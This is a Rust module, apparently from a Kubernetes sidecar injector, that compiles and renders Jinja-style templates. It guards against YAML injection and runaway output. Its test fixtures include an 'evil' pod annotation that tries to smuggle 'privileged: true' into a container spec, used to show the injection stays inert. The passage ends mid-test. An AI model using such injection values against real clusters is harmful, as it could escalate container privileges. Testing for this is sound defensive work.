//! Sidecar templates (minijinja): compiled once per configuration, rendered per object.
//!
//! Two forms. A *field template* is any string of a sidecar definition holding `{{ }}` or
//! `{% %}`; it renders to that one string (or, when the string is a single `{{ expr }}`, to the
//! expression's value with its type), so whatever a manifest contains cannot add a field. A
//! *whole template* (`template:`) renders YAML text with loops and conditionals. There every
//! `{{ }}` prints a placeholder, not its value: the text is read as YAML with the placeholders
//! in it, and each value is then put where its placeholder is in what was read — the whole
//! node when the placeholder is a plain scalar alone, else its text inside the scalar (quoted,
//! block, or beside other text; a key). What a value holds is never read as YAML, so no value
//! can close a quote or a bracket of the template, start a line, or add a field, whatever
//! context the template put it in (Istio's kube-inject shipped a fix for annotations that did).

use std::collections::HashMap;

use minijinja::{AutoEscape, Environment, UndefinedBehavior};
use serde_json::{Map, Value};

use crate::diagnostic::codes;
use crate::json::Pointer;
use crate::json::patch::{self};
use crate::model::schema::is_template;

mod context;
mod trial;
pub(crate) use context::{Source, context_of};
pub(crate) use trial::{Fault, suggest_value};

const RENDER: &str = codes::TEMPLATE_RENDER;

/// Upper bound on template work per render (minijinja fuel units).
const FUEL: u64 = 200_000;
/// Upper bound on one rendered text, and on the values a whole template puts into it.
const MAX_OUTPUT: usize = 1 << 20;

/// The marks around a placeholder in a whole template's rendered text (`MARK_OPEN`, the
/// number of the printed value, `MARK_CLOSE`): private-use characters, which YAML reads as
/// ordinary characters in every context (plain, quoted and block scalars, keys, flow and
/// block collections) and which a template's own text may not hold (refused at load).
const MARK_OPEN: char = '\u{E000}';
const MARK_CLOSE: char = '\u{E001}';

/// What the `{{ }}` of one render of a whole template printed, in order: placeholder `n`
/// stands for entry `n`.
#[derive(Default)]
struct Printed(Vec<minijinja::Value>);

/// A template that failed to compile: where (JSON pointer inside the sidecar definition, or
/// `/template`), and the byte range inside the template text when known.
#[derive(Debug, Clone)]
pub struct SyntaxError {
    pub pointer: String,
    pub message: String,
    pub range: Option<std::ops::Range<usize>>,
}

/// A template that failed to render for one object.
#[derive(Debug, Clone)]
pub struct RenderError {
    /// `kinject::template::render`, or `kinject::template::invalid_yaml` when a whole
    /// template's own text is not YAML.
    pub code: &'static str,
    pub pointer: String,
    pub message: String,
}

/// A field template, compiled.
struct Field {
    /// Where it is in the sidecar definition.
    pointer: String,
    /// Its name in the environment.
    name: String,
    /// For a single `{{ expr }}` (rendered to a typed value): where `expr` is in the text.
    typed: Option<std::ops::Range<usize>>,
}

#[derive(Default)]
struct SidecarTemplates {
    fields: Vec<Field>,
    whole: Option<String>,
}

/// Every template of a configuration, compiled.
pub struct Templates {
    env: Environment<'static>,
    sidecars: HashMap<String, SidecarTemplates>,
}

impl Default for Templates {
    fn default() -> Self {
        Self::new()
    }
}

impl Templates {
    pub fn new() -> Self {
        let mut env = Environment::new();
        env.set_undefined_behavior(UndefinedBehavior::Strict);
        // Errors say what was undefined (`values.tracerVersion` is undefined): minijinja
        // tracks it in debug mode, which is on by default only in debug builds (the release
        // binary said "undefined value (undefined value)").
        env.set_debug(true);
        env.set_fuel(Some(FUEL));
        env.set_unknown_method_callback(python_method);
        env.add_filter("replace", bounded_replace);
        env.add_filter("indent", bounded_indent);
        env.add_filter("format", bounded_format);
        if let Ok(syntax) = minijinja::syntax::SyntaxConfig::builder()
            .keep_trailing_newline(true)
            .build()
        {
            env.set_syntax(syntax);
        }
        env.set_auto_escape_callback(auto_escape);
        env.set_formatter(print_value);
        env.add_filter("b64encode", b64encode);
        env.add_filter("b64decode", b64decode);
        env.add_filter("from_json", from_json);
        env.add_filter("typed_json", typed_json);
        env.add_filter("from_yaml", from_yaml);
        env.add_filter("yaml_scalar", yaml_scalar);
        env.add_filter("go_printed", go_printed);
        env.add_filter("go_range", go_range);
        env.add_filter("go_volume_mounts", go_volume_mounts);
        env.add_function("annotation", annotation);
        env.add_function("service_account", service_account);
        env.add_function("annotation_list", annotation_list);
        Templates {
            env,
            sidecars: HashMap::new(),
        }
    }

    /// Compiles the templates of sidecar `name`: each template string in `definition` and
    /// the `whole` template text.
    pub fn add_sidecar(
        &mut self,
        name: &str,
        definition: &Value,
        whole: Option<&str>,
    ) -> Result<(), Vec<SyntaxError>> {
        let mut errors = Vec::new();
        let mut compiled = SidecarTemplates::default();
        let mut strings = Vec::new();
        template_strings(definition, String::new(), &mut strings);
        for (pointer, text) in strings {
            let template_name = format!("field:{name}:{pointer}");
            let (source, typed) = match single_expression(&text) {
                // Undefined is refused by `typed_json` (`tojson` would give `null`, which
                // leaves the field out), naming the expression as written.
                Some(expr) => (
                    format!(
                        "{{{{ ({expr}) | typed_json({}) }}}}",
                        Value::String(expr.to_owned())
                    ),
                    Some(expression_range(&text, expr)),
                ),
                None => (text.clone(), None),
            };
            match self.env.add_template_owned(template_name.clone(), source) {
                Ok(()) => compiled.fields.push(Field {
                    pointer,
                    name: template_name,
                    typed,
                }),
                Err(e) => {
                    // A typed expression re-wrapped: report against the original text.
                    let range = if typed.is_some() { None } else { e.range() };
                    errors.push(SyntaxError {
                        pointer,
                        message: describe(&e),
                        range,
                    });
                }
            }
        }
        if let Some(text) = whole {
            let template_name = format!("whole:{name}");
            if let Some(at) = text.find([MARK_OPEN, MARK_CLOSE]) {
                errors.push(SyntaxError {
                    pointer: "/template".to_owned(),
                    message: "U+E000 and U+E001 (private-use characters) are kinject's marks for printed values: a template may not hold them".to_owned(),
                    range: Some(at..at + MARK_OPEN.len_utf8()),
                });
            } else {
                match self
                    .env
                    .add_template_owned(template_name.clone(), text.to_owned())
                {
                    Ok(()) => compiled.whole = Some(template_name),
                    Err(e) => errors.push(SyntaxError {
                        pointer: "/template".to_owned(),
                        message: describe(&e),
                        range: e.range(),
                    }),
                }
            }
        }
        self.sidecars.insert(name.to_owned(), compiled);
        if errors.is_empty() {
            Ok(())
        } else {
            Err(errors)
        }
    }

    /// The `values.*` paths the templates read, dotted inside `values` (`image.tag`); `""`
    /// when one reads `values` other than by attribute (`values[k]`, `values | items`), which
    /// may be any of it.
    pub fn values_read(&self) -> Vec<String> {
        let mut read: Vec<String> = self
            .template_names()
            .filter_map(|n| self.env.get_template(n).ok())
            .flat_map(|t| t.undeclared_variables(true))
            .filter_map(|v| match v.strip_prefix("values") {
                Some("") => Some(String::new()),
                Some(rest) => rest.strip_prefix('.').map(str::to_owned),
                None => None,
            })
            .collect();
        read.sort_unstable();
        read.dedup();
        read
    }

    /// The names of every compiled template, field and whole.
    fn template_names(&self) -> impl Iterator<Item = &str> {
        self.sidecars.values().flat_map(|t| {
            t.fields
                .iter()
                .map(|f| f.name.as_str())
                .chain(t.whole.as_deref())
        })
    }

    /// Whether sidecar `name` renders the same for every object (it has no template).
    pub fn is_static(&self, name: &str) -> bool {
        self.sidecars
            .get(name)
            .is_none_or(|t| t.fields.is_empty() && t.whole.is_none())
    }

    /// Whether sidecar `name` is a whole template.
    pub fn has_whole(&self, name: &str) -> bool {
        self.sidecars.get(name).is_some_and(|t| t.whole.is_some())
    }

    /// Renders every field template of sidecar `name` into a copy of `definition`.
    pub fn render_fields(
        &self,
        name: &str,
        definition: &Value,
        ctx: &minijinja::Value,
    ) -> Result<Value, RenderError> {
        let mut out = definition.clone();
        let Some(compiled) = self.sidecars.get(name) else {
            return Ok(out);
        };
        // Last first, so removing a list item leaves the pointers still to fill valid.
        for Field {
            pointer,
            name: template_name,
            typed,
        } in compiled.fields.iter().rev()
        {
            let text = self
                .render_named(template_name, ctx)
                .map_err(|message| RenderError {
                    code: RENDER,
                    pointer: pointer.clone(),
                    message,
                })?;
            let value = if typed.is_some() {
                serde_json::from_str(&text).map_err(|e| RenderError {
                    code: RENDER,
                    pointer: pointer.clone(),
                    message: format!("expression did not give a value: {e}"),
                })?
            } else {
                Value::String(text)
            };
            if value.is_null() {
                // A field whose expression gives nothing is left out. It is there to remove:
                // only fields after it (in the order they were found) were removed before.
                let remove = patch::Op::Remove {
                    path: pointer.clone(),
                };
                let _ = patch::apply(&mut out, std::slice::from_ref(&remove));
            } else if let Some(slot) = out.at_pointer_mut(pointer) {
                *slot = value;
            }
        }
        Ok(out)
    }

    /// Renders the whole template of sidecar `name`, if it has one, to the fields it gives.
    pub fn render_whole(
        &self,
        name: &str,
        ctx: &minijinja::Value,
    ) -> Option<Result<Value, RenderError>> {
        let template_name = self.sidecars.get(name)?.whole.as_ref()?;
        let fail = |message| RenderError {
            code: RENDER,
            pointer: "/template".to_owned(),
            message,
        };
        Some(
            self.render_printed(template_name, ctx)
                .map_err(fail)
                .and_then(|(text, printed)| fill_in(&text, &printed)),
        )
    }

    fn render_named(&self, template_name: &str, ctx: &minijinja::Value) -> Result<String, String> {
        self.render_printed(template_name, ctx)
            .map(|(text, _)| text)
    }

    /// The rendered text, and (for a whole template) what its placeholders stand for.
    fn render_printed(
        &self,
        template_name: &str,
        ctx: &minijinja::Value,
    ) -> Result<(String, Printed), String> {
        let template = self
            .env
            .get_template(template_name)
            .map_err(|e| describe(&e))?;
        // Written to a bounded buffer: a template that would print gigabytes stops at the
        // limit instead of first making them.
        let mut out = Bounded::default();
        let rendered = template.render_captured_to(ctx, &mut out);
        if out.full {
            return Err(format!("rendered text is larger than {MAX_OUTPUT} bytes"));
        }
        let mut captured = rendered.map_err(|e| describe(&e))?;
        let printed = captured
            .with_state_mut(|s| s.get_extension_mut::<Printed>().map(std::mem::take))
            .unwrap_or_default();
        let text = String::from_utf8(out.text).map_err(|e| e.to_string())?;
        Ok((text, printed))
    }
}

/// Whole templates escape: the text of a `set` block or a macro is then marked safe, which
/// tells `placeholder` that it is the template's own text, holding placeholders.
fn auto_escape(name: &str) -> AutoEscape {
    if name.starts_with("whole:") {
        AutoEscape::Json
    } else {
        AutoEscape::None
    }
}

/// How a template prints a value: a whole template as a placeholder, a field template as
/// minijinja does.
fn print_value(
    out: &mut minijinja::Output,
    state: &mut minijinja::State,
    value: &minijinja::Value,
) -> Result<(), minijinja::Error> {
    if !state.name().starts_with("whole:") {
        return minijinja::escape_formatter(out, state, value);
    }
    placeholder(out, state, value)
}

/// How a whole template prints a value: as a placeholder for it. Text the template made
/// itself (a `set` block's, a macro's: marked safe, holding placeholders already) is written
/// as it is.
fn placeholder(
    out: &mut minijinja::Output,
    state: &mut minijinja::State,
    value: &minijinja::Value,
) -> Result<(), minijinja::Error> {
    let written = match value.as_str() {
        Some(own) if value.is_safe() && own.contains(MARK_OPEN) => out.write_str(own),
        _ => {
            let printed = state.get_or_insert_extension(Printed::default());
            printed.0.push(value.clone());
            write!(out, "{MARK_OPEN}{}{MARK_CLOSE}", printed.0.len() - 1)
        }
    };
    written.map_err(|_| minijinja::Error::new(minijinja::ErrorKind::WriteFailure, "output"))
}

/// The fields a whole template's `text` gives: the text read as YAML, each placeholder then
/// replaced by what it stands for (`printed`).
fn fill_in(text: &str, printed: &Printed) -> Result<Value, RenderError> {
    let fail = |message: String| RenderError {
        code: RENDER,
        pointer: "/template".to_owned(),
        message,
    };
    let parsed = crate::yaml::parse_document(text).map_err(|e| {
        let shown: String = text
            .get(e.offset..)
            .unwrap_or_default()
            .lines()
            .next()
            .unwrap_or_default()
            .chars()
            .map(|c| match c {
                MARK_OPEN => '{',
                MARK_CLOSE => '}',
                c => c,
            })
            .collect();
        let (line, column) = line_column(text, e.offset);
        RenderError {
            code: codes::TEMPLATE_INVALID_YAML,
            pointer: "/template".to_owned(),
            message: format!(
                "the template's own text is not YAML at line {line}, column {column} of what it rendered (`{}`, a printed value shown as `{{n}}`): {}",
                shown.trim(),
                e.message
            ),
        }
    })?;
    let mut value = parsed.value;
    let mut budget = MAX_OUTPUT;
    let mut filler = Filler {
        printed,
        budget: &mut budget,
    };
    filler
        .fill(&mut value, parsed.root.as_ref())
        .map_err(fail)?;
    Ok(value)
}

/// Line and column (1-based, in characters) of byte `offset` of `text`.
fn line_column(text: &str, offset: usize) -> (usize, usize) {
    let before = text.get(..offset).unwrap_or(text);
    let line_start = before.rfind('\n').map_or(0, |i| i + 1);
    (
        before.matches('\n').count() + 1,
        before[line_start..].chars().count() + 1,
    )
}

/// Puts printed values where their placeholders are.
struct Filler<'a> {
    printed: &'a Printed,
    /// Bytes the values may still add: what is put in counts against the output limit.
    budget: &'a mut usize,
}

impl Filler<'_> {
    fn fill(&mut self, value: &mut Value, node: Option<&crate::yaml::Node>) -> Result<(), String> {
        use crate::yaml::{NodeKind, ScalarKind};
        match value {
            Value::String(s) if s.contains(MARK_OPEN) => {
                let plain = node.is_some_and(|n| n.kind == NodeKind::Scalar(ScalarKind::Plain));
                *value = match lone_placeholder(s) {
                    Some(n) if plain => self.node(n)?,
                    _ => Value::String(self.text(s)?),
                };
            }
            Value::Array(items) => {
                for (i, item) in items.iter_mut().enumerate() {
                    let child = node.and_then(|n| match &n.kind {
                        NodeKind::Seq { items, .. } => items.get(i),
                        _ => None,
                    });
                    self.fill(item, child)?;
                }
            }
            Value::Object(map) => {
                let keyed = map.keys().any(|k| k.contains(MARK_OPEN));
                let entries = std::mem::take(map);
                for (key, mut v) in entries {
                    self.fill(&mut v, node.and_then(|n| n.get(&key)))?;
                    let key = if keyed && key.contains(MARK_OPEN) {
                        self.text(&key)?
                    } else {
                        key
                    };
                    if map.contains_key(&key) {
                        return Err(format!(
                            "two keys read `{key}` once the printed values were put in"
                        ));
                    }
                    map.insert(key, v);
                }
            }
            _ => {}
        }
        Ok(())
    }

    fn charge(&mut self, bytes: usize) -> Result<(), String> {
        *self.budget = self.budget.checked_sub(bytes).ok_or_else(|| {
            format!("the values the template printed are larger than {MAX_OUTPUT} bytes")
        })?;
        Ok(())
    }

    /// Printed value `n` as a node: a value with its type; text the configuration vouched
    /// for (`values`, `| safe`, `| tojson`: marked safe) read as YAML, as if written there.
    fn node(&mut self, n: usize) -> Result<Value, String> {
        let v = self.entry(n)?;
        if let (true, Some(text)) = (v.is_safe(), v.as_str()) {
            self.charge(text.len())?;
            return crate::yaml::parse_value(text).map_err(|e| {
                format!(
                    "a printed value marked safe is not YAML: {} (in `{}`)",
                    e.message,
                    text.escape_debug()
                )
            });
        }
        let value = serde_json::to_value(&v).map_err(|e| e.to_string())?;
        self.charge(value_size(&value))?;
        Ok(value)
    }

    /// `s` with every placeholder replaced by the text of its value.
    fn text(&mut self, s: &str) -> Result<String, String> {
        let mut out = String::with_capacity(s.len());
        let mut rest = s;
        while let Some(open) = rest.find(MARK_OPEN) {
            out.push_str(&rest[..open]);
            let after = &rest[open + MARK_OPEN.len_utf8()..];
            let close = after.find(MARK_CLOSE).ok_or_else(cut)?;
            let n = after[..close].parse::<usize>().map_err(|_| cut())?;
            let v = self.entry(n)?;
            let text = match v.kind() {
                minijinja::value::ValueKind::Map
                | minijinja::value::ValueKind::Seq
                | minijinja::value::ValueKind::Iterable => {
                    serde_json::to_string(&v).map_err(|e| e.to_string())?
                }
                _ => v.to_string(),
            };
            self.charge(text.len())?;
            out.push_str(&text);
            rest = &after[close + MARK_CLOSE.len_utf8()..];
        }
        if rest.contains(MARK_CLOSE) {
            return Err(cut());
        }
        out.push_str(rest);
        Ok(out)
    }

    fn entry(&self, n: usize) -> Result<minijinja::Value, String> {
        let v = self.printed.0.get(n).cloned().ok_or_else(cut)?;
        if !v.is_safe() && v.as_str().is_some_and(holds_placeholder) {
            return Err("the text of a macro or a `set` block went through a filter that made it a plain string, its printed values in it: print it as it is".to_owned());
        }
        Ok(v)
    }
}

/// A placeholder that does not stand for a printed value: something cut one apart.
fn cut() -> String {
    "a printed value was cut apart (by a filter applied to a `set` block's or a macro's text?)"
        .to_owned()
}

/// Whether `s` holds a placeholder (a template's own text, not a value's).
fn holds_placeholder(s: &str) -> bool {
    s.split(MARK_OPEN).skip(1).any(|after| {
        after
            .split_once(MARK_CLOSE)
            .is_some_and(|(n, _)| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()))
    })
}

/// `Some(n)` when `s` is placeholder `n` and nothing else.
fn lone_placeholder(s: &str) -> Option<usize> {
    s.strip_prefix(MARK_OPEN)?
        .strip_suffix(MARK_CLOSE)?
        .parse()
        .ok()
}

/// About how many bytes `value` takes written out.
fn value_size(value: &Value) -> usize {
    match value {
        Value::String(s) => s.len() + 2,
        Value::Array(items) => items.iter().map(value_size).sum::<usize>() + 2,
        Value::Object(m) => {
            m.iter()
                .map(|(k, v)| k.len() + 4 + value_size(v))
                .sum::<usize>()
                + 2
        }
        _ => 8,
    }
}

/// A string larger than the output limit, refused before it is made: a filter could
/// otherwise build gigabytes (`"%999999999s"|format(x)`, `indent(1000)` of a long text,
/// `replace` with a long replacement) before the output limit saw any of it.
fn too_large(what: &str, size: usize) -> minijinja::Error {
    invalid(format!(
        "`{what}` would make a string of {size} bytes, more than the {MAX_OUTPUT} a template may render"
    ))
}

/// `s` with `from` replaced by `to` must fit the output limit.
fn replaced_size(s: &str, from: &str, to: &str) -> Result<(), minijinja::Error> {
    // An empty `from` matches between every two characters.
    let n = if from.is_empty() {
        s.chars().count() + 1
    } else {
        s.matches(from).count()
    };
    let size = (s.len() - n.saturating_mul(from.len())).saturating_add(n.saturating_mul(to.len()));
    if size > MAX_OUTPUT {
        return Err(too_large("replace", size));
    }
    Ok(())
}

/// A format string's widths and precisions (any number in it) must fit the output limit.
fn widths_fit(format: &str) -> Result<(), minijinja::Error> {
    for run in format.split(|c: char| !c.is_ascii_digit()) {
        if run.len() > 7 || run.parse::<usize>().is_ok_and(|n| n > MAX_OUTPUT) {
            return Err(too_large("format", run.parse().unwrap_or(usize::MAX)));
        }
    }
    Ok(())
}

/// Python string methods (`startswith`, `split`…) as Jinja users expect them; those that can
/// build a large string (`replace`, `format`) checked first, as the filters.
fn python_method(
    state: &mut minijinja::State,
    value: &minijinja::Value,
    method: &str,
    args: &[minijinja::Value],
) -> Result<minijinja::Value, minijinja::Error> {
    if let Some(s) = value.as_str() {
        match (method, args) {
            ("replace", [from, to, ..]) => {
                replaced_size(s, &from.to_string(), &to.to_string())?;
            }
            ("format", _) => widths_fit(s)?,
            _ => {}
        }
    }
    minijinja_contrib::pycompat::unknown_method_callback(state, value, method, args)
}

fn bounded_replace(
    state: &mut minijinja::State,
    value: minijinja::value::StringInput<'_>,
    from: minijinja::value::StringInput<'_>,
    to: minijinja::value::StringInput<'_>,
) -> Result<minijinja::Value, minijinja::Error> {
    replaced_size(value.as_str(), from.as_str(), to.as_str())?;
    minijinja::filters::replace(state, value, from, to)
}

fn bounded_indent(
    value: minijinja::value::StringInput<'_>,
    width: Option<usize>,
    first: Option<bool>,
    blank: Option<bool>,
    kwargs: minijinja::value::Kwargs,
) -> Result<minijinja::Value, minijinja::Error> {
    let w = match width {
        Some(w) => w,
        None => kwargs.peek::<Option<usize>>("width")?.unwrap_or(4),
    };
    let lines = value.as_str().matches('\n').count() + 1;
    let size = value.as_str().len().saturating_add(w.saturating_mul(lines));
    if size > MAX_OUTPUT {
        return Err(too_large("indent", size));
    }
    minijinja::filters::indent(value, width, first, blank, kwargs)
}

fn bounded_format(
    state: &mut minijinja::State,
    format: &minijinja::Value,
    args: minijinja::value::Rest<minijinja::value::ValueOrKwargs>,
) -> Result<minijinja::Value, minijinja::Error> {
    if let Some(f) = format.as_str() {
        widths_fit(f)?;
    }
    minijinja::filters::format(state, format, args)
}

fn b64encode(s: String) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(s)
}

fn b64decode(s: String) -> Result<String, minijinja::Error> {
    use base64::Engine;
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(s.trim())
        .map_err(invalid)?;
    String::from_utf8(bytes).map_err(invalid)
}

fn from_json(s: String) -> Result<minijinja::Value, minijinja::Error> {
    let v: Value = serde_json::from_str(&s).map_err(|e| invalid(format!("not JSON: {e}")))?;
    Ok(ser(v))
}

fn from_yaml(s: String) -> Result<minijinja::Value, minijinja::Error> {
    let parsed =
        crate::yaml::parse_document(&s).map_err(|e| invalid(format!("not YAML: {}", e.message)))?;
    Ok(ser(parsed.value))
}

/// A string as Kubernetes reads it written plain in YAML (`"3"`: the number 3); any other
/// value as it is.
fn yaml_scalar(v: minijinja::Value) -> minijinja::Value {
    match v.as_str() {
        Some(s) => ser(crate::yaml::scalar::resolve_plain(s)),
        None => v,
    }
}

/// What a Go template prints for a value (translated salesforce templates): text. A string as
/// it is, a number or boolean as written, nothing (a missing value) as nothing. A mapping or
/// list is refused: Go prints it as `map[…]` or `[…]` text, which no sidecar field means, and
/// taken as the value it holds it would let an annotation (`{% index .Annotations "x" |
/// fromYaml %}`) give a sidecar fields of its own.
fn go_printed(v: minijinja::Value) -> Result<minijinja::Value, minijinja::Error> {
    use minijinja::value::ValueKind;
    match v.kind() {
        ValueKind::Undefined | ValueKind::None => Ok(minijinja::Value::from("")),
        ValueKind::Seq | ValueKind::Map | ValueKind::Iterable | ValueKind::Plain => {
            Err(invalid(format!(
                "a template action prints {}, which Go writes as text (`map[…]`, `[…]`), not as YAML: only a scalar can be printed",
                if v.kind() == ValueKind::Map {
                    "a mapping"
                } else {
                    "a list"
                }
            )))
        }
        ValueKind::String => Ok(v),
        ValueKind::Bool => Ok(minijinja::Value::from(if v.is_true() {
            "true"
        } else {
            "false"
        })),
        _ => Ok(minijinja::Value::from(v.to_string())),
    }
}

/// Go's `range` (translated salesforce templates): (index, item) of a list, (key, value) of a
/// mapping in key order.
fn go_range(v: minijinja::Value) -> Result<minijinja::Value, minijinja::Error> {
    let pairs: Vec<minijinja::Value> = if v.kind() == minijinja::value::ValueKind::Map {
        let mut keys: Vec<minijinja::Value> = v.try_iter()?.collect();
        keys.sort();
        keys.into_iter()
            .map(|k| {
                let item = v.get_item(&k).unwrap_or_default();
                minijinja::Value::from(vec![k, item])
            })
            .collect()
    } else {
        v.try_iter()?
            .enumerate()
            .map(|(i, item)| minijinja::Value::from(vec![minijinja::Value::from(i), item]))
            .collect()
    };
    Ok(minijinja::Value::from(pairs))
}

/// A list of volume mounts as Go's `json.Unmarshal` reads it into `[]corev1.VolumeMount`
/// (salesforce's mount annotations): a member a mount does not have is ignored, and a member
/// name matches its field regardless of case (the last one given wins). The members kept are
/// checked as every mount is, after rendering.
fn go_volume_mounts(v: minijinja::Value) -> Result<minijinja::Value, minijinja::Error> {
    const FIELDS: [&str; 7] = [
        "name",
        "readOnly",
        "recursiveReadOnly",
        "mountPath",
        "subPath",
        "mountPropagation",
        "subPathExpr",
    ];
    let list = serde_json::to_value(&v).map_err(|e| invalid(e.to_string()))?;
    let Value::Array(items) = list else {
        return Err(invalid(format!(
            "volume mounts must be a list, found {}",
            crate::model::schema::type_name(&list)
        )));
    };
    let mounts: Vec<Value> = items
        .into_iter()
        .map(|item| match item {
            Value::Object(members) => {
                let mut mount = Map::new();
                for (key, value) in members {
                    if let Some(field) = FIELDS.iter().find(|f| f.eq_ignore_ascii_case(&key)) {
                        mount.insert((*field).to_owned(), value);
                    }
                }
                Value::Object(mount)
            }
            other => other,
        })
        .collect();
    Ok(ser(Value::Array(mounts)))
}

/// A buffer that refuses to grow past `MAX_OUTPUT`.
#[derive(Default)]
struct Bounded {
    text: Vec<u8>,
    full: bool,
}

impl std::io::Write for Bounded {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        if self.text.len() + bytes.len() > MAX_OUTPUT {
            self.full = true;
            return Err(std::io::Error::other("rendered text too large"));
        }
        self.text.extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// `annotation(key, default="")`: the pod template's annotation `key`, or `default` when it
/// has none (written without a value, it is the empty string Kubernetes stores).
fn annotation(
    state: &minijinja::State,
    key: &str,
    default: Option<minijinja::Value>,
) -> minijinja::Value {
    let found = state
        .lookup("pod")
        .and_then(|pod| pod.get_attr("metadata").ok())
        .and_then(|m| m.get_attr("annotations").ok())
        .and_then(|a| a.get_item(&minijinja::Value::from(key)).ok())
        .filter(|v| !v.is_undefined());
    match found {
        Some(v) if v.is_none() => minijinja::Value::from(""),
        Some(v) => v,
        None => default.unwrap_or_else(|| minijinja::Value::from("")),
    }
}

/// `annotation_list(key)`: the pod template's annotation `key` read as a JSON list (none when
/// the annotation is absent or empty).
fn annotation_list(
    state: &minijinja::State,
    key: &str,
) -> Result<minijinja::Value, minijinja::Error> {
    let text = annotation(state, key, None);
    let text = text.as_str().unwrap_or_default().trim();
    if text.is_empty() {
        return Ok(minijinja::Value::from(Vec::<minijinja::Value>::new()));
    }
    let fail = |why: String| invalid(format!("annotation `{key}` must hold a JSON list: {why}"));
    match serde_json::from_str::<Value>(text) {
        Ok(list @ Value::Array(_)) => Ok(ser(list)),
        Ok(other) => Err(fail(format!(
            "it holds {}",
            crate::model::schema::type_name(&other)
        ))),
        Err(e) => Err(fail(e.to_string())),
    }
}

/// `service_account()`: the pod's service account as admission sees it: `serviceAccountName`,
/// else the deprecated `serviceAccount`, else `default` (what the ServiceAccount admission
/// plugin sets before any webhook runs).
fn service_account(state: &minijinja::State) -> minijinja::Value {
    let spec = state
        .lookup("pod")
        .and_then(|pod| pod.get_attr("spec").ok());
    ["serviceAccountName", "serviceAccount"]
        .into_iter()
        .filter_map(|f| spec.as_ref()?.get_attr(f).ok())
        .find(|v| v.as_str().is_some_and(|s| !s.is_empty()))
        .unwrap_or_else(|| minijinja::Value::from("default"))
}

/// The template context for one object, read from `pod` (its pod template) and `workload`
/// (the object), copied once (`context_of` reads them in place when their holder shares them).
pub(crate) fn context(
    pod: &Value,
    workload: &Value,
    namespace: &str,
    values: &Map<String, Value>,
) -> minijinja::Value {
    context_of(
        Source::Borrowed(pod),
        Source::Borrowed(workload),
        namespace,
        values,
    )
}

/// A template error: an operation that cannot be done on its operand.
fn invalid(message: impl std::fmt::Display) -> minijinja::Error {
    minijinja::Error::new(minijinja::ErrorKind::InvalidOperation, message.to_string())
}

fn ser<T: serde::Serialize>(value: T) -> minijinja::Value {
    minijinja::Value::from(minijinja::value::Serde(value))
}

/// `{{ expr }}` and nothing else: the expression, to render with its type.
fn single_expression(text: &str) -> Option<&str> {
    let inner = text.trim().strip_prefix("{{")?.strip_suffix("}}")?;
    let inner = inner.strip_prefix('-').unwrap_or(inner);
    let inner = inner.strip_suffix('-').unwrap_or(inner);
    (!inner.contains("{{") && !inner.contains("}}") && !inner.contains("{%"))
        .then_some(inner.trim())
}

/// Where `expr` (a slice of `text`) is in `text`.
fn expression_range(text: &str, expr: &str) -> std::ops::Range<usize> {
    let start = (expr.as_ptr() as usize).saturating_sub(text.as_ptr() as usize);
    start..start + expr.len()
}

/// `expr | typed_json(text)`: the value as JSON, for a single-expression field; an undefined
/// value is an error naming the expression (`text`), as printing it would be.
fn typed_json(value: &minijinja::Value, text: &str) -> Result<minijinja::Value, minijinja::Error> {
    if value.is_undefined() {
        return Err(minijinja::Error::new(
            minijinja::ErrorKind::UndefinedError,
            format!("`{text}` is undefined"),
        ));
    }
    minijinja::filters::tojson(
        value,
        None,
        minijinja::value::Kwargs::from_iter(std::iter::empty::<(&str, minijinja::Value)>()),
    )
}

fn template_strings(value: &Value, pointer: String, out: &mut Vec<(String, String)>) {
    match value {
        Value::String(s) if is_template(s) => out.push((pointer, s.clone())),
        Value::Array(items) => {
            for (i, v) in items.iter().enumerate() {
                template_strings(v, crate::json::push(&pointer, &i.to_string()), out);
            }
        }
        Value::Object(map) => {
            for (k, v) in map {
                template_strings(v, crate::json::push(&pointer, k), out);
            }
        }
        _ => {}
    }
}

fn describe(e: &minijinja::Error) -> String {
    let mut msg = e
        .detail()
        .map_or_else(|| e.kind().to_string(), ToString::to_string);
    match e.kind() {
        minijinja::ErrorKind::UndefinedError => msg = format!("undefined value ({msg})"),
        minijinja::ErrorKind::OutOfFuel => {
            msg = format!(
                "the template did more than {FUEL} steps of work (a loop that does not end?)"
            );
        }
        _ => {}
    }
    let mut source = std::error::Error::source(e);
    while let Some(s) = source {
        msg.push_str(&format!(": {s}"));
        source = s.source();
    }
    msg
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn ctx() -> minijinja::Value {
        let pod = json!({
            "metadata": {"annotations": {"sidecar-injector.expedia.com/some-api-key": "6feab492", "evil": "x\"\n  privileged: true"}},
            "spec": {"serviceAccountName": "billing"},
        });
        let workload = json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "web", "namespace": "prod"}});
        let values = json!({"port": 8080, "registry": "r.io"});
        context(&pod, &workload, "prod", values.as_object().unwrap())
    }

    #[test]
    fn field_templates_keep_types_and_stay_strings() {
        let mut t = Templates::new();
        let def = json!({"containers": [{"name": "p", "image": "{{ values.registry }}/p:1",
            "ports": [{"containerPort": "{{ values.port }}"}],
            "env": [{"name": "E", "value": "{{ annotations['evil'] }}"}]}],
            "volumes": [{"name": "aws", "secret": {"secretName": "aws-iam-{{ pod.spec.serviceAccountName }}"}}]});
        t.add_sidecar("p", &def, None).unwrap();
        let out = t.render_fields("p", &def, &ctx()).unwrap();
        assert_eq!(out["containers"][0]["image"], "r.io/p:1");
        assert_eq!(out["containers"][0]["ports"][0]["containerPort"], 8080);
        assert_eq!(
            out["containers"][0]["env"][0]["value"],
            "x\"\n  privileged: true"
        );
        assert_eq!(out["volumes"][0]["secret"]["secretName"], "aws-iam-billing");
    }

    #[test]
    fn whole_templates_loop_and_quote_object_values() {
        let mut t = Templates::new();
        let text = "containers:\n- name: agent\n  image: {{ values.registry }}/agent\n  env:\n{% for k, v in annotations|items if k.startswith('sidecar-injector.expedia.com/') %}  - name: {{ k.split('/')[1] }}\n    value: {{ v }}\n{% endfor %}  - name: EVIL\n    value: {{ annotations.evil }}\n";
        t.add_sidecar("agent", &json!({}), Some(text)).unwrap();
        let parsed = t.render_whole("agent", &ctx()).unwrap().unwrap();
        assert_eq!(parsed["containers"][0]["image"], "r.io/agent");
